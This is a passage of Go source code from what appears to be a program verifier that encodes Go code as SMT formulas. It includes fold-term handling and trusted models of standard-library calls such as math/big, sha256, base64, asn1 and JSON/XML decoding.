			fc.foldTerms[ck] = append(fc.foldTerms[ck], rec)
		}
	}
	register(t, hi)
	register(mk(lo, sApp("-", hi, "1")), sApp("-", hi, "1"))
	// the same fold over an older heap version that differs only in rows of unescaped local objects
	if !reBoundVar.MatchString(t) && !fc.declSet["foldbase:"+t] {
		fc.declSet["foldbase:"+t] = true
		argsJoined := strings.Join(argTerms, " ") + " " + lo + " " + hi
		base := make([]string, len(hterms))
		changed := false
		for i, h := range hterms {
			base[i] = fc.foldBase(h, argsJoined)
			if base[i] != h {
				changed = true
			}
		}
		if os.Getenv("GVC_DEBUG_FOLD") != "" {
			fmt.Fprintf(os.Stderr, "foldbase %v -> %v locals=%v storeRef=%v\n", hterms, base, sortedKeys(fc.localRefs), fc.storeRef)
		}
		if changed {
			all := append(append([]string{}, base...), argTerms...)
			tb := sApp(fname, append(all, lo, hi)...)
			fc.permFact(sEq(t, tb))
			all2 := append(append([]string{}, base...), argTerms...)
			tb1 := sApp(fname, append(all2, lo, sApp("-", hi, "1"))...)
			fc.permFact(sEq(mk(lo, sApp("-", hi, "1")), tb1))
		}
	}
	if !reBoundVar.MatchString(t) && !fc.declSet["foldfact:"+t] {
		fc.declSet["foldfact:"+t] = true
		var step string
		prev := mk(lo, sApp("-", hi, "1"))
		if fd.Op == "mul" {
			step = fr.mulTerm(prev, last)
		} else if fd.Op == "mulmod" {
			// product reduced at every step, as the code computes it: r = (r * elem) mod m
			step = fr.divTerm("mod", fr.mulTerm(prev, last), modTerm)
		} else {
			step = sApp("+", prev, last)
		}
		fc.permFact(sAnd(sImp(sApp(">=", lo, hi), sEq(t, unit)), sImp(sApp("<", lo, hi), sEq(t, step))))
	}
	return Val{S: t, Typ: tInt}
}

type foldRec struct {
	term   string
	lo     string
	hi     string
	heaps  string
	hlist  []string
	elemAt func(string) string
}

// replaceSym replaces whole-symbol occurrences of old by new in an SMT term
func replaceSym(t, old, new string) string {
	var sb strings.Builder
	for {
		i := strings.Index(t, old)
		if i < 0 {
			sb.WriteString(t)
			return sb.String()
		}
		j := i + len(old)
		boundary := (i == 0 || strings.ContainsRune("( ", rune(t[i-1]))) && (j == len(t) || strings.ContainsRune(") ", rune(t[j])))
		sb.WriteString(t[:i])
		if boundary {
			sb.WriteString(new)
		} else {
			sb.WriteString(old)
		}
		t = t[j:]
	}
}

// readDiffs: the element e1 (heaps h1) and e2 (heaps h2) of a fold are the same expression over two heap
// states. They can only differ if some heap read differs; the disjunction of those differences is implied by
// e1 != e2 and is much easier for a solver than the disequality of the two whole terms.
func readDiffs(e1 string, h1, h2 []string) []string {
	var out []string
	seen := map[string]bool{}
	ren := func(t string) string {
		for i := range h1 {
			if h1[i] != h2[i] {
				t = replaceSym(t, h1[i], h2[i])
			}
		}
		return t
	}
	for i := range h1 {
		if h1[i] == h2[i] {
			continue
		}
		pat := "(select " + h1[i] + " "
		pat2 := "(select (select " + h1[i] + " "
		for _, p := range []string{pat, pat2} {
			from := 0
			for {
				k := strings.Index(e1[from:], p)
				if k < 0 {
					break
				}
				k += from
				d, j := 0, k
				for ; j < len(e1); j++ {
					if e1[j] == '(' {
						d++
					} else if e1[j] == ')' {
						d--
						if d == 0 {
							break
						}
					}
				}
				sub := e1[k : j+1]
				if !seen[sub] {
					seen[sub] = true
					out = append(out, sNot(sEq(sub, ren(sub))))
				}
				from = k + 1
			}
		}
	}
	return out
}

// mixedKind: a position variable that is also used as a map key (or a key variable also used as a position)
// has no kind: it is instantiated at, and its skolem constant offered to, both sorts of quantifiers
func mixedKind(kind int, body string, bv string) int {
	usedIn := func(pat string, argIdx int) bool {
		from := 0
		for {
			k := strings.Index(body[from:], pat)
			if k < 0 {
				return false
			}
			k += from
			from = k + 1
			d, j := 0, k
			for ; j < len(body); j++ {
				if body[j] == '(' {
					d++
				} else if body[j] == ')' {
					d--
					if d == 0 {
						break
					}
				}
			}
			if j >= len(body) {
				return false
			}
			a := splitSexpr(body[k : j+1])
			for n, x := range a {
				if n >= argIdx && strings.Contains(x, bv) {
					return true
				}
			}
		}
	}
	switch kind {
	case kIdx:
		// (select (select |MP:..| m) key) with the variable in the key
		if usedIn("(select (select |MP:", 2) || usedIn("(select (select |MV:", 2) {
			return 0
		}
	case kKey:
		// (+ (sl_off s) index...) with the variable in the index
		if usedIn("(+ (sl_off ", 2) {
			return 0
		}
	}
	return kind
}
