package main

// Native models ("trusted contracts") of math/big and a few standard-library functions.
// Every model used by a run is recorded in fc.trusted and ends up in the evidence.

import (
	"fmt"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func (fr *Frame) bv(st *State, ref string) string {
	fr.fc.regVar(hBV, arrSort("Int"))
	return fr.fc.rd(st, hBV, ref)
}

func (fr *Frame) setBV(st *State, ref, val string) {
	fr.fc.regVar(hBV, arrSort("Int"))
	fr.wr1(st, hBV, ref, val)
}

func (fr *Frame) pow2(n string) string {
	fc := fr.fc
	if k, ok := numeral(n); ok && k >= 0 && k < 8192 {
		return pow2Const(k)
	}
	t := sApp("pow2", n)
	key := "pow2:" + n
	if !fc.noAux && !fc.declSet[key] && !reBoundVar.MatchString(n) {
		fc.declSet[key] = true
		fc.permFact(sApp(">=", t, "1"))
		fc.permFact(sImp(sEq(n, "0"), sEq(t, "1")))
		isBl := strings.HasPrefix(n, "(bitlen ")
		for _, o := range fc.pow2Args {
			// pairwise monotonicity only against exponents that are not themselves bit lengths of other
			// values (those pairs are quadratically many and are not what comparisons of sizes need)
			if isBl && strings.HasPrefix(o, "(bitlen ") {
				continue
			}
			ot := sApp("pow2", o)
			fc.permFact(sAnd(
				sImp(sApp("<", o, n), sApp("<=", sApp("*", "2", ot), t)),
				sImp(sApp("<", n, o), sApp("<=", sApp("*", "2", t), ot)),
				sImp(sEq(sApp("+", o, "1"), n), sEq(sApp("*", "2", ot), t)),
				sImp(sEq(sApp("+", n, "1"), o), sEq(sApp("*", "2", t), ot)),
				// limbs of 256 bits (hash expansion)
				sImp(sEq(sApp("+", o, "256"), n), sEq(sApp("*", pow2Const(256), ot), t)),
				sImp(sEq(sApp("+", n, "256"), o), sEq(sApp("*", pow2Const(256), t), ot))))
		}
		fc.pow2Args = append(fc.pow2Args, n)
	}
	return t
}

func (fr *Frame) bitlenOf(x string) string {
	fc := fr.fc
	t := sApp("bitlen", sApp("absI", x))
	key := "bitlen:" + x
	if !fc.noAux && !fc.declSet[key] && !reBoundVar.MatchString(x) {
		fc.declSet[key] = true
		ax := sApp("absI", x)
		p := fr.pow2(t)
		fc.permFact(sAnd(sApp(">=", t, "0"), sEq(sEq(ax, "0"), sEq(t, "0")),
			sApp("<", ax, p), sImp(sApp(">", ax, "0"), sApp("<=", p, sApp("*", "2", ax)))))
	}
	return t
}

func (fr *Frame) nilOb(b *ssa.BasicBlock, what string, ref string, pos token.Pos) {
	fr.ob("nil", what, b, sNot(sEq(ref, "0")), pos)
}

func (fr *Frame) trust(what string) {
	fr.fc.trusted[what] = true
}

var bigMethodNames = map[string]bool{}

// nativeCall models a statically known callee. ok=false if there is no model.
func (fr *Frame) nativeCall(b *ssa.BasicBlock, st *State, name string, callee *ssa.Function, args []Val, resT types.Type, pos token.Pos) (Val, bool) {
	fc := fr.fc
	src := fr.src(pos, callee.Name())
	switch name {
	case "math/big.NewInt":
		fr.trust("math/big.NewInt: fresh object holding the argument")
		r := fr.alloc(st, "big")
		if len(activeLogs[fc]) == 0 {
			if fc.localRefs == nil {
				fc.localRefs = map[string]bool{}
			}
			fc.localRefs[r] = true
		}
		fr.setBV(st, r, fr.scalar(args[0]))
		if _, ok := numeral(fr.scalar(args[0])); ok {
			fc.knownBig[r] = fr.scalar(args[0])
		}
		return Val{S: r, Typ: resT}, true
	}
	if strings.HasPrefix(name, "(*math/big.Int).") {
		m := strings.TrimPrefix(name, "(*math/big.Int).")
		return fr.bigMethod(b, st, m, args, resT, pos, src)
	}
	switch name {
	case "math/big.Jacobi":
		fr.trust("math/big.Jacobi = jacobi symbol (uninterpreted); panics for even y")
		x, y := fr.scalar(args[0]), fr.scalar(args[1])
		fr.nilOb(b, src+":x", x, pos)
		fr.nilOb(b, src+":y", y, pos)
		fr.ob("panic", src+":even", b, sEq(sApp("mod", fr.bv(st, y), "2"), "1"), pos)
		r := sApp("jacobi", fr.bv(st, x), fr.bv(st, y))
		fc.addFact("true", sAnd(sApp("<=", "(- 1)", r), sApp("<=", r, "1")))
		return Val{S: r, Typ: resT}, true
	case "crypto/sha256.New":
		fr.trust("crypto/sha256.New/Write/Sum: a fresh hash object; Write appends to its input; Sum(nil) returns sha256 of the input written so far (32 bytes)")
		r := fr.alloc(st, "hash")
		fc.regVar("HS", arrSort("Int"))
		fr.specNative("bempty")
		fr.wr1(st, "HS", r, "u_bempty")
		tag := fc.eng.typeTag(types.NewPointer(types.Typ[types.Uint8])) // opaque concrete type
		id := sApp("mkiface", fmt.Sprint(tag), r)
		fc.addFact("true", sAnd(sEq(sApp("itype", id), fmt.Sprint(tag)), sEq(sApp("ipay", id), r), sNot(sEq(id, "0"))))
		return Val{S: id, Typ: resT}, true
	case "crypto/sha256.Sum256":
		fr.trust("crypto/sha256.Sum256: returns sha256(content) (uninterpreted, 32 bytes); does not panic")
		id := fc.freshConst("sum", "Int")
		fr.declArrContents("Int")
		fc.addFact("true", sEq(sApp("bseq", sApp("arrcontents_Int", id), "0", "32"), sApp("sha256", fr.bseqOf(st, args[0]))))
		return Val{S: id, Typ: resT}, true
	case "encoding/asn1.Marshal":
		return fr.asn1Marshal(b, st, args, resT, pos), true
	case "bytes.Equal":
		fr.trust("bytes.Equal: true iff same length and same bytes")
		x, y := args[0], args[1]
		xs, ys := fr.scalar(x), fr.scalar(y)
		h := heapElem(types.Typ[types.Uint8])
		fc.regVar(h, arr2Sort("Int"))
		hp := fc.get(st, h)
		r := fc.freshConst("bytes_eq", "Bool")
		fc.addFact("true", sEq(r, sAnd(sEq(sApp("sl_len", xs), sApp("sl_len", ys)),
			fmt.Sprintf("(forall ((i Int)) (=> (and (<= 0 i) (< i (sl_len %s))) (= (select (select %s (sl_arr %s)) (+ (sl_off %s) i)) (select (select %s (sl_arr %s)) (+ (sl_off %s) i)))))", xs, hp, xs, xs, hp, ys, ys))))
		fc.addFact("true", sImp(r, sEq(fr.bseqOf(st, x), fr.bseqOf(st, y))))
		return Val{S: r, Typ: resT}, true
	case "(*encoding/base64.Encoding).EncodedLen", "(*encoding/base64.Encoding).DecodedLen":
		fr.trust(name + ": a non-negative length for a non-negative argument (uninterpreted function of encoding and argument)")
		fn := "b64enclen"
		if strings.HasSuffix(name, "DecodedLen") {
			fn = "b64declen"
		}
		if !fc.declSet["fun:"+fn] {
			fc.declSet["fun:"+fn] = true
			fc.decls = append(fc.decls, fmt.Sprintf("(declare-fun %s (Int Int) Int)", fn))
		}
		n := fr.scalar(args[1])
		t := sApp(fn, fr.scalar(args[0]), n)
		fc.addFact("true", sImp(sApp(">=", n, "0"), sAnd(sApp(">=", t, "0"), sApp("<=", t, sApp("+", sApp("*", "2", n), "4")))))
		return Val{S: t, Typ: resT}, true
	case "(*encoding/base64.Encoding).Encode", "(*encoding/base64.Encoding).Decode":
		fr.trust(name + ": writes only the destination slice; needs a destination of at least EncodedLen/DecodedLen(len(src)) bytes; Decode returns 0 <= n <= DecodedLen(len(src))")
		enc := strings.HasSuffix(name, ".Encode")
		fn := "b64declen"
		if enc {
			fn = "b64enclen"
		}
		if !fc.declSet["fun:"+fn] {
			fc.declSet["fun:"+fn] = true
			fc.decls = append(fc.decls, fmt.Sprintf("(declare-fun %s (Int Int) Int)", fn))
		}
		recv, dst, srcS := fr.scalar(args[0]), fr.scalar(args[1]), fr.scalar(args[2])
		need := sApp(fn, recv, sApp("sl_len", srcS))
		fr.ob("index", src+":dst", b, sApp(">=", sApp("sl_len", dst), need), pos)
		// the destination's bytes are unknown afterwards
		h := heapElem(types.Typ[types.Uint8])
		fc.regVar(h, arr2Sort("Int"))
		old := fc.get(st, h)
		row := fc.freshConst("b64row", arrSort("Int"))
		fr.checkLoopWrite(h, sApp("sl_arr", dst))
		fc.logWrite(h, sApp("sl_arr", dst))
		fc.setDef(st, "true", h, sIte(sEq(sApp("sl_len", dst), "0"), old, sStore(old, sApp("sl_arr", dst), row)))
		if enc {
			return Val{Typ: resT, IsAg: true}, true
		}
		n := fc.freshConst("b64n", "Int")
		fc.addFact("true", sAnd(sApp("<=", "0", n), sApp("<=", n, need)))
		errv := fr.havocVal(resT.(*types.Tuple).At(1).Type(), "b64err")
		fc.addFact("true", fr.typeFacts(errv, st))
		return Val{Typ: resT, IsAg: true, Agg: []Val{{S: n, Typ: types.Typ[types.Int]}, errv}}, true
	case "crypto/rand.Int":
		fr.trust("crypto/rand.Int(r, max): panics for max <= 0; returns a fresh value in [0, max) or (nil, err)")
		mx := fr.scalar(args[1])
		fr.nilOb(b, src+":max", mx, pos)
		fr.ob("panic", src+":max<=0", b, sApp(">", fr.bv(st, mx), "0"), pos)
		errv := fr.havocVal(resT.(*types.Tuple).At(1).Type(), "randerr")
		fc.addFact("true", fr.typeFacts(errv, st))
		r := fr.alloc(st, "big")
		rv := fc.freshConst("randint", "Int")
		fr.setBV(st, r, rv)
		fc.addFact("true", sAnd(sApp("<=", "0", rv), sApp("<", rv, fr.bv(st, mx))))
		res := fc.freshConst("randres", "Int")
		fc.addFact("true", sEq(res, sIte(sEq(fr.scalar(errv), "0"), r, "0")))
		return Val{Typ: resT, IsAg: true, Agg: []Val{{S: res, Typ: resT.(*types.Tuple).At(0).Type()}, errv}}, true
	case "crypto/subtle.ConstantTimeCompare":
		fr.trust("crypto/subtle.ConstantTimeCompare: 1 iff same length and same bytes, else 0")
		x, y := args[0], args[1]
		xs, ys := fr.scalar(x), fr.scalar(y)
		h := heapElem(types.Typ[types.Uint8])
		fc.regVar(h, arr2Sort("Int"))
		hp := fc.get(st, h)
		r := fc.freshConst("ct_eq", "Bool")
		fc.addFact("true", sEq(r, sAnd(sEq(sApp("sl_len", xs), sApp("sl_len", ys)),
			fmt.Sprintf("(forall ((i Int)) (=> (and (<= 0 i) (< i (sl_len %s))) (= (select (select %s (sl_arr %s)) (+ (sl_off %s) i)) (select (select %s (sl_arr %s)) (+ (sl_off %s) i)))))", xs, hp, xs, xs, hp, ys, ys))))
		fc.addFact("true", sImp(r, sEq(fr.bseqOf(st, x), fr.bseqOf(st, y))))
		return Val{S: sIte(r, "1", "0"), Typ: resT}, true
	case "(encoding/binary.bigEndian).PutUint64", "(encoding/binary.littleEndian).PutUint64":
		fr.trust(name + ": writes the 8 bytes of the value; panics if len < 8")
		bs := fr.scalar(args[1])
		fr.ob("index", src+":len", b, sApp(">=", sApp("sl_len", bs), "8"), pos)
		fr.specNative("be64")
		fr.specNative("bcat")
		h := heapElem(types.Typ[types.Uint8])
		fc.regVar(h, arr2Sort("Int"))
		old := fc.get(st, h)
		row := fc.freshConst("putrow", arrSort("Int"))
		oldrow := sSel(old, sApp("sl_arr", bs))
		off := sApp("sl_off", bs)
		enc := "be64"
		if strings.Contains(name, "little") {
			enc = "le64"
			fr.specNative("le64")
		}
		fc.addFact("true", sAnd(
			sEq(sApp("bseq", row, off, "8"), sApp("u_"+enc, fr.scalar(args[2]))),
			fmt.Sprintf("(forall ((j Int)) (! (=> (or (< j %s) (>= j (+ %s 8))) (= (select %s j) (select %s j))) :pattern ((select %s j))))", off, off, row, oldrow, row),
			fmt.Sprintf("(forall ((j Int)) (! (and (<= 0 (select %s j)) (<= (select %s j) 255)) :pattern ((select %s j))))", row, row, row)))
		fr.wrRow(st, h, sApp("sl_arr", bs), row)
		return Val{IsAg: true, Typ: resT}, true
	case "github.com/multiformats/go-multihash.Decode":
		fr.trust("multihash.Decode: pure; result.Code = mhcode(bytes), result.Length = mhlen(bytes) = number of digest bytes (total length 2 + mhlen when code and length are below 128), error iff not a well-formed multihash")
		fr.specNative("mhcode")
		fr.specNative("mhok")
		r := fr.alloc(st, "decoded")
		pt := resT.(*types.Tuple).At(0).Type()
		dt := pt.(*types.Pointer).Elem()
		l := &Loc{Kind: LObj, Base: r, Root: dt, Elem: dt}
		fr.storeLoc(st, l, fr.havocVal(dt, "dmh"))
		bs := fr.bseqOf(st, args[0])
		ok := sApp("u_mhok", bs)
		codeLoc, _, _ := fr.specFieldLoc(Val{S: r, Typ: pt}, "Code")
		fr.storeLoc(st, codeLoc, Val{S: sApp("u_mhcode", bs), Typ: types.Typ[types.Uint64]})
		fc.addFact("true", rangeFact(types.Typ[types.Uint64], sApp("u_mhcode", bs)))
		// Length: the digest length the header declares; Decode insists that it is the actual one, and code and
		// length are varints, so a multihash with code 0x12 and a 32-byte digest has exactly 34 bytes
		fr.specNative("mhlen")
		if lenLoc, _, ok2 := fr.specFieldLoc(Val{S: r, Typ: pt}, "Length"); ok2 {
			fr.storeLoc(st, lenLoc, Val{S: sApp("u_mhlen", bs), Typ: types.Typ[types.Int]})
		}
		fc.addFact("true", sAnd(sApp("<=", "0", sApp("u_mhlen", bs)),
			sImp(sAnd(ok, sApp("<", sApp("u_mhcode", bs), "128"), sApp("<", sApp("u_mhlen", bs), "128")),
				sEq(sApp("sl_len", fr.scalar(args[0])), sApp("+", "2", sApp("u_mhlen", bs))))))
		errv := fc.freshConst("mherr", "Int")
		fc.addFact("true", sEq(sEq(errv, "0"), ok))
		resv := fc.freshConst("mhres", "Int")
		fc.addFact("true", sEq(resv, sIte(ok, r, "0")))
		return Val{IsAg: true, Typ: resT, Agg: []Val{{S: resv, Typ: pt}, {S: errv, Typ: resT.(*types.Tuple).At(1).Type()}}}, true
	case "github.com/multiformats/go-multihash.Sum":
		fr.trust("multihash.Sum(data, code, -1): fresh multihash bytes mhsum(data, code); error iff the code is unsupported; the result decodes as a well-formed multihash with that code")
		fr.specNative("mhsum")
		fr.specNative("mhsupported")
		fr.specNative("mhok")
		fr.specNative("mhcode")
		code := fr.scalar(args[1])
		ok := sApp("u_mhsupported", code)
		out := fr.newSliceFresh(st, types.Typ[types.Uint8], fc.freshConst("mhlen", "Int"), resT.(*types.Tuple).At(0).Type(), "mh")
		fc.addFact("true", sEq(fr.bseqOf(st, out), sApp("u_mhsum", fr.bseqOf(st, args[0]), code)))
		fc.addFact("true", sImp(ok, sAnd(sApp("u_mhok", sApp("u_mhsum", fr.bseqOf(st, args[0]), code)), sEq(sApp("u_mhcode", sApp("u_mhsum", fr.bseqOf(st, args[0]), code)), code))))
		errv := fc.freshConst("mherr", "Int")
		fc.addFact("true", sEq(sEq(errv, "0"), ok))
		resv := fc.freshConst("mhres", "Int")
		fc.addFact("true", sEq(resv, sIte(ok, out.S, "0")))
		return Val{IsAg: true, Typ: resT, Agg: []Val{{S: resv, Typ: out.Typ}, {S: errv, Typ: resT.(*types.Tuple).At(1).Type()}}}, true
	case "github.com/fxamacker/cbor.Unmarshal", "encoding/json.Unmarshal":
		fr.trust(name + ": decodes into the object passed (its fields are overwritten), allocating fresh objects for everything it points to; error iff the input is malformed (uninterpreted); does not panic on any input")
		fr.specNative("cborok")
		fr.specNative("cbormsg")
		fr.specNative("cborsig")
		data := fr.bseqOf(st, args[0])
		ok := sApp("u_cborok", data)
		if strings.HasPrefix(name, "encoding/json") {
			fr.specNative("jsonok")
			ok = sApp("u_jsonok", data)
		}
		pay, pt := fr.ifaceTarget(args[1])
		if pt == nil {
			fc.assumptions[name+" into a destination of unknown dynamic type: only fields at that reference are havocked, in the heaps known so far"] = true
			fr.havocAnyFields(st, sApp("ipay", fr.scalar(args[1])))
		} else {
			tv := Val{S: pay, Typ: pt}
			fr.havocReach(st, tv)
			if ptr, isPtr := pt.Underlying().(*types.Pointer); isPtr {
				if su, isStruct := ptr.Elem().Underlying().(*types.Struct); isStruct && su.NumFields() == 2 && su.Field(0).Name() == "Msg" && su.Field(1).Name() == "Sig" {
					m := fr.specField(tv, "Msg", &SpecEnv{fr: fr, now: st, old: st})
					sg := fr.specField(tv, "Sig", &SpecEnv{fr: fr, now: st, old: st})
					fc.addFact("true", sImp(ok, sAnd(sEq(fr.bseqOf(st, m), sApp("u_cbormsg", data)), sEq(fr.bseqOf(st, sg), sApp("u_cborsig", data)))))
				}
			}
		}
		errv := fc.freshConst("decerr", "Int")
		fc.addFact("true", sEq(sEq(errv, "0"), ok))
		na := fc.freshConst(hAlloc, "Int")
		fc.addFact("true", sApp(">=", na, fc.get(st, hAlloc)))
		fc.logWrite(hAlloc, "")
		st.vars[hAlloc] = na
		fr.flushClosed(st)
		return Val{S: errv, Typ: resT}, true
	case "encoding/xml.Unmarshal", "(*encoding/xml.Decoder).DecodeElement", "(*encoding/xml.Decoder).Decode":
		fr.trust(name + ": decodes into the object passed (its fields are overwritten); elements of slices of pointers directly in that object are non-nil; the error is uninterpreted; does not panic on any input")
		tgt := args[1]
		if name == "encoding/xml.Unmarshal" {
			tgt = args[1]
		}
		pay, pt := fr.ifaceTarget(tgt)
		if pt == nil {
			fc.assumptions[name+" into a destination of unknown dynamic type: only fields at that reference are havocked, in the heaps known so far"] = true
			fr.havocAnyFields(st, sApp("ipay", fr.scalar(tgt)))
		} else {
			tv := Val{S: pay, Typ: pt}
			fr.havocReach(st, tv)
			if ptr, isPtr := pt.Underlying().(*types.Pointer); isPtr {
				if su, isStruct := ptr.Elem().Underlying().(*types.Struct); isStruct {
					// ghost: the character data / text the decoder delivered, when the destination is a struct whose
					// only field is a string (the `xml:",chardata"` idiom); readable in contracts as xmltext()
					if su.NumFields() == 1 {
						if bt, isStr := su.Field(0).Type().Underlying().(*types.Basic); isStr && bt.Info()&types.IsString != 0 {
							f := fr.specField(tv, su.Field(0).Name(), &SpecEnv{fr: fr, now: st, old: st})
							fc.regVar("$xmltext", "Int")
							fc.logWrite("$xmltext", "")
							st.vars["$xmltext"] = fr.scalar(f)
						}
					}
					for i := 0; i < su.NumFields(); i++ {
						sl, isSl := su.Field(i).Type().Underlying().(*types.Slice)
						if !isSl {
							continue
						}
						if _, elemPtr := sl.Elem().Underlying().(*types.Pointer); !elemPtr {
							continue
						}
						f := fr.specField(tv, su.Field(i).Name(), &SpecEnv{fr: fr, now: st, old: st})
						fs := fr.scalar(f)
						h := heapElem(sl.Elem())
						fc.regVar(h, arr2Sort(sortOf(sl.Elem())))
						hp := fc.get(st, h)
						fc.qcount++
						iv := fmt.Sprintf("qv%dx_xi", fc.qcount)
						body := fmt.Sprintf("(=> (and (<= 0 %s) (< %s (sl_len %s))) (not (= (select (select %s (sl_arr %s)) (+ (sl_off %s) %s)) 0)))", iv, iv, fs, hp, fs, fs, iv)
						all := fmt.Sprintf("(forall ((%s Int)) (! %s :pattern ((select (select %s (sl_arr %s)) (+ (sl_off %s) %s)))))", iv, body, hp, fs, fs, iv)
						fc.addFactQ(fr.reach[b.Index], all, []QInst{{Forall: all, Var: iv, Inst: body, Kind: kIdx}})
					}
				}
			}
		}
		errv := fr.havocVal(resT, "xmlerr")
		fc.addFact("true", fr.typeFacts(errv, st))
		na := fc.freshConst(hAlloc, "Int")
		fc.addFact("true", sApp(">=", na, fc.get(st, hAlloc)))
		fc.logWrite(hAlloc, "")
		st.vars[hAlloc] = na
		fr.flushClosed(st)
		return errv, true
	case "encoding/asn1.Unmarshal":
		fr.trust("encoding/asn1.Unmarshal(b, &struct{R,S *big.Int}): error iff b does not start with a SEQUENCE of exactly two INTEGERs; on success R, S are fresh non-nil objects and rest is the remainder")
		fr.specNative("asn1ok")
		fr.specNative("asn1R")
		fr.specNative("asn1S")
		fr.specNative("asn1rest")
		data := fr.bseqOf(st, args[0])
		ok := sApp("u_asn1ok", data)
		pay, pt := fr.ifaceTarget(args[1])
		if pt != nil {
			tv := Val{S: pay, Typ: pt}
			fr.havocReach(st, tv)
			if ptr, isPtr := pt.Underlying().(*types.Pointer); isPtr {
				if su, isStruct := ptr.Elem().Underlying().(*types.Struct); isStruct && su.NumFields() == 2 && su.Field(0).Name() == "R" {
					env := &SpecEnv{fr: fr, now: st, old: st}
					r := fr.specField(tv, "R", env)
					sg := fr.specField(tv, "S", env)
					fc.addFact("true", sImp(ok, sAnd(sNot(sEq(r.S, "0")), sNot(sEq(sg.S, "0")), sEq(fr.bv(st, r.S), sApp("u_asn1R", data)), sEq(fr.bv(st, sg.S), sApp("u_asn1S", data)))))
				}
			}
		} else {
			fr.havocAnyFields(st, sApp("ipay", fr.scalar(args[1])))
		}
		tup := resT.(*types.Tuple)
		rest := fr.newSliceFresh(st, types.Typ[types.Uint8], fc.freshConst("restlen", "Int"), tup.At(0).Type(), "rest")
		fc.addFact("true", sImp(ok, sEq(sApp("sl_len", rest.S), sApp("u_asn1rest", data))))
		errv := fc.freshConst("asn1err", "Int")
		fc.addFact("true", sEq(sEq(errv, "0"), ok))
		return Val{IsAg: true, Typ: resT, Agg: []Val{rest, {S: errv, Typ: tup.At(1).Type()}}}, true
	case "crypto/ecdsa.Verify":
		fr.trust("crypto/ecdsa.Verify(pub, hash, r, s): pure; dereferences pub, r and s (nil panics); result uninterpreted ecdsaok(pub, hash, r, s)")
		fr.specNative("ecdsaok")
		pk := fr.scalar(args[0])
		fr.nilOb(b, src+":pub", pk, pos)
		fr.nilOb(b, src+":r", fr.scalar(args[2]), pos)
		fr.nilOb(b, src+":s", fr.scalar(args[3]), pos)
		return Val{S: sApp("u_ecdsaok", pk, fr.bseqOf(st, args[1]), fr.bv(st, fr.scalar(args[2])), fr.bv(st, fr.scalar(args[3]))), Typ: resT}, true
	case "sync/atomic.AddUint64":
		fr.trust("sync/atomic.AddUint64: atomic wrapping add, returns the new value")
		l := fr.locOf(args[0])
		old := fr.loadLoc(st, l)
		nv := sApp("wrapU64", sApp("+", old.S, fr.scalar(args[1])))
		fr.storeLoc(st, l, Val{S: nv, Typ: old.Typ})
		return Val{S: nv, Typ: resT}, true
	}
	return Val{}, false
}

func (fr *Frame) asn1Marshal(b *ssa.BasicBlock, st *State, args []Val, resT types.Type, pos token.Pos) Val {
	fc := fr.fc
	fr.trust("encoding/asn1.Marshal([]any of bool / *math/big.Int): DER SEQUENCE of the elements (uninterpreted der over the element codes); errors only on other element types")
	a := args[0]
	// argument is `any` holding a []any
	id := fr.scalar(a)
	anySlice := types.NewSlice(types.NewInterfaceType(nil, nil))
	tag := fmt.Sprint(fc.eng.typeTag(anySlice))
	// record the call for call-site assertions
	s := sApp("ipay", id)
	_ = tag
	h := heapElem(types.NewInterfaceType(nil, nil).Complete())
	hname := ""
	for _, name := range sortedKeys(fc.varSort) {
		if strings.HasPrefix(name, "E:") && (strings.HasSuffix(name, "any") || strings.HasSuffix(name, "interface{}")) {
			hname = name
		}
	}
	if hname == "" {
		hname = h
		fc.regVar(hname, arr2Sort("Int"))
	}
	if !fc.declSet["fun:der"] {
		fc.declSet["fun:der"] = true
		fc.decls = append(fc.decls, "(declare-fun dercode (Int Int) Int)") // (type tag, value) -> element code
		fc.decls = append(fc.decls, "(declare-fun derseq ((Array Int Int) Int) Int)")
	}
	fc.regVar(hBV, arrSort("Int"))
	n := sApp("sl_len", s)
	codes := fc.freshConst("dercodes", arrSort("Int"))
	row := fc.rd(st, hname, sApp("sl_arr", s))
	boolTag := fmt.Sprint(fc.eng.typeTag(types.Typ[types.Bool]))
	bigTag := fmt.Sprint(fc.eng.typeTag(types.NewPointer(fc.eng.mathBigInt())))
	el := fmt.Sprintf("(select %s (+ (sl_off %s) i))", row, s)
	code := fmt.Sprintf("(ite (= (itype %s) %s) (dercode %s (ipay %s)) (dercode (itype %s) (select %s (ipay %s))))", el, boolTag, boolTag, el, el, fc.get(st, hBV), el)
	fc.addFact("true", fmt.Sprintf("(forall ((i Int)) (! (=> (and (<= 0 i) (< i %s)) (= (select %s i) %s)) :pattern ((select %s i))))", n, codes, code, codes))
	// marshal succeeds iff every element is a bool or a non-nil *big.Int
	okc := fc.freshConst("asn1ok", "Bool")
	// if marshalling fails there is an offending element (skolem constant); if every element is fine it succeeds
	bad := fc.freshConst("asn1bad", "Int")
	elAt := func(ix string) string { return fmt.Sprintf("(select %s (+ (sl_off %s) %s))", row, s, ix) }
	okAt := func(ix string) string {
		e := elAt(ix)
		return fmt.Sprintf("(or (= (itype %s) %s) (and (= (itype %s) %s) (not (= (ipay %s) 0))))", e, boolTag, e, bigTag, e)
	}
	fc.addFact("true", sOr(okc, sAnd(sApp("<=", "0", bad), sApp("<", bad, n), sNot(okAt(bad)))))
	fc.addCand(bad)
	fc.addCand(sApp("-", bad, "1"))
	fc.addCand(sApp("-", bad, "2"))
	_ = el
	out := fr.newSliceFresh(st, types.Typ[types.Uint8], fc.freshConst("derlen", "Int"), types.NewSlice(types.Typ[types.Uint8]), "der")
	fc.addFact("true", sEq(fr.bseqOf(st, out), sApp("derseq", codes, n)))
	errv := fc.freshConst("asn1err", "Int")
	fc.addFact("true", sEq(sEq(errv, "0"), okc))
	fc.lastMarshal = &marshalInfo{codes: codes, n: n, slice: s, heap: hname}
	return Val{IsAg: true, Typ: resT, Agg: []Val{out, {S: errv, Typ: types.Universe.Lookup("error").Type()}}}
}

type marshalInfo struct {
	codes, n, slice, heap string
}

func (e *Engine) mathBigInt() types.Type {
	if e.mathBig != nil {
		return e.mathBig
	}
	for _, p := range e.prog.AllPackages() {
		if p.Pkg.Path() == "math/big" {
			e.mathBig = p.Pkg.Scope().Lookup("Int").Type()
		}
	}
	return e.mathBig
}

func (fr *Frame) bigMethod(b *ssa.BasicBlock, st *State, m string, args []Val, resT types.Type, pos token.Pos, src string) (Val, bool) {
	fc := fr.fc
	fr.trust("math/big.Int." + m + ": documented arithmetic meaning over mathematical integers; receiver is the only object written; nil operands panic")
	z := fr.scalar(args[0])
	arg := func(i int) string { return fr.scalar(args[i]) }
	need := func(idx ...int) {
		fr.nilOb(b, src, z, pos)
